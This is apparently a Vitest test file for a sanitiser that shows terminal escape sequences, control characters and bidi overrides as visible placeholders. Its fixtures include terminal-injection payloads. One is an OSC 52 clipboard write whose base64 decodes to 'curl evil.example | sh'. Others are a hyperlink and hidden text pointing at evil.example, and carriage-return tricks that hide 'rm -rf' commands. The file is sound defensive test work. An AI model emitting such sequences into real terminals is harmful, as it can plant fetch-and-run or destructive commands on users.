import { describe, expect, it } from "vitest";
import { screenJson, screenText, screenTextDeep } from "./screen-text.js";

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

/** What must never reach a terminal: ESC and every C0 control but \n and \t, DEL, C1, bidi controls. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/u;

/** Hostile text of each kind, each around printable text of several scripts that must survive. */
const HOSTILE: Record<string, string> = {
  "OSC 0 (window title), BEL": `${ESC}]0;pwned${BEL}`,
  "OSC 2 (window title), ST": `${ESC}]2;pwned${ST}`,
  "OSC 8 (hyperlink)": `${ESC}]8;;https://evil.example${ST}click${ESC}]8;;${ST}`,
  "OSC 52 (clipboard), BEL": `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`,
  "OSC 52 (clipboard), ST": `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${ST}`,
  "OSC, 8-bit": "\x9d0;pwned\x9c",
  DCS: `${ESC}P$q"p${ST}`,
  APC: `${ESC}_Gf=100;AAAA${ST}`,
  PM: `${ESC}^private${ST}`,
  SOS: `${ESC}Xstring${ST}`,
  "SGR hidden": `${ESC}[8m@evil.example${ESC}[0m`,
  "cursor moves and erase": `${ESC}[2J${ESC}[H${ESC}[1A${ESC}[K`,
  "C1 controls and 8-bit CSI": "\x85\x8d\x90\x9b8m\x9f",
  "bare ESC": `${ESC}`,
  "ESC ESC": `${ESC}${ESC}[`,
  "other C0 and DEL": "\x00\x01\x08\x0b\x0c\x0e\x1a\x7f",
  "CR overwrite": "rm -rf ~\rls -la   ",
  "bidi overrides and isolates": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
};

describe("screenText", () => {
  for (const [kind, hostile] of Object.entries(HOSTILE)) {
    it(`shows ${kind} as placeholders and keeps the printable text`, () => {
      const text = `日本語 ${hostile} 😀👩‍👩‍👧 tab\there\nnext`;
      const shown = screenText(text);
      expect(shown).not.toMatch(CONTROL);
      expect(shown.startsWith("日本語 ")).toBe(true);
      expect(shown.endsWith(" 😀👩‍👩‍👧 tab\there\nnext")).toBe(true);
      // Every printable character of the hostile part is still there, in order.
      const printable = [...hostile].filter((char) => !CONTROL.test(char)).join("");
      expect([...shown].filter((char) => printable.includes(char)).join("")).toContain(printable);
    });
  }

  it("names each control with its picture, or its code point", () => {
    expect(screenText(`${ESC}]52;c;QUJD${BEL}`)).toBe("␛]52;c;QUJD␇");
    expect(screenText(`${ESC}]2;t${ST}`)).toBe("␛]2;t␛\\");
    expect(screenText(`${ESC}[8mhidden`)).toBe("␛[8mhidden");
    expect(screenText("a\x00b\x7fc")).toBe("a␀b␡c");
    expect(screenText("\x9b31m")).toBe("⟨U+009B⟩31m");
    expect(screenText("abc\u202edef")).toBe("abc⟨U+202E⟩def");
    expect(screenText("x\u2066y\u2069")).toBe("x⟨U+2066⟩y⟨U+2069⟩");
  });

  it("reads CR LF as a line break and shows a bare CR", () => {
    expect(screenText("one\r\ntwo\r\n")).toBe("one\ntwo\n");
    expect(screenText("safe\rrm -rf /")).toBe("safe␍rm -rf /");
    expect(screenText("end\r")).toBe("end␍");
  });

  it("gives a stream cut anywhere, even inside a sequence or after its ESC, what the whole text gives", () => {
    const text = `before ${ESC}]52;c;QUJD${BEL} 中文 ${ESC}[8mx${ESC}`;
    for (let cut = 0; cut <= text.length; cut++)
      expect(screenText(text.slice(0, cut)) + screenText(text.slice(cut))).toBe(screenText(text));
  });

  it("leaves printable text as it is", () => {
    const plain = "plain ASCII, 한국어, العربية, emoji 🎉, wide ＡＢＣ, tab\tand\nlines";
    expect(screenText(plain)).toBe(plain);
  });
});

describe("screenTextDeep", () => {
  it("applies screenText to every string of plain data, keys too, and keeps the rest", () => {
    const value = {
      type: "tool_end",
      n: 3,
      ok: true,
      none: null,
      list: [`a${ESC}]0;t${BEL}`, 1, { [`k${ESC}`]: `\x9b` }],
    };
    expect(screenTextDeep(value)).toEqual({
      type: "tool_end",
      n: 3,
      ok: true,
      none: null,
      list: ["a␛]0;t␇", 1, { "k␛": "⟨U+009B⟩" }],
    });
    expect(value.list[0]).toBe(`a${ESC}]0;t${BEL}`);
  });

  it("returns class instances as they are", () => {
    const when = new Date(0);
    expect(screenTextDeep({ when }).when).toBe(when);
  });
});

describe("screenJson", () => {
  it("escapes what a terminal acts on and JSON leaves raw, and parses back to the same data", () => {
    const value = { text: "a\u009b31mred\u202eevil\u007f\x1b]0;t\x07 日本 🎉", list: ["\u0085", "ok"] };
    const line = screenJson(value);
    expect(line).not.toMatch(CONTROL);
    expect(line).toContain("\\u009b");
    expect(line).toContain("\\u202e");
    expect(JSON.parse(line)).toEqual(value);
  });
});
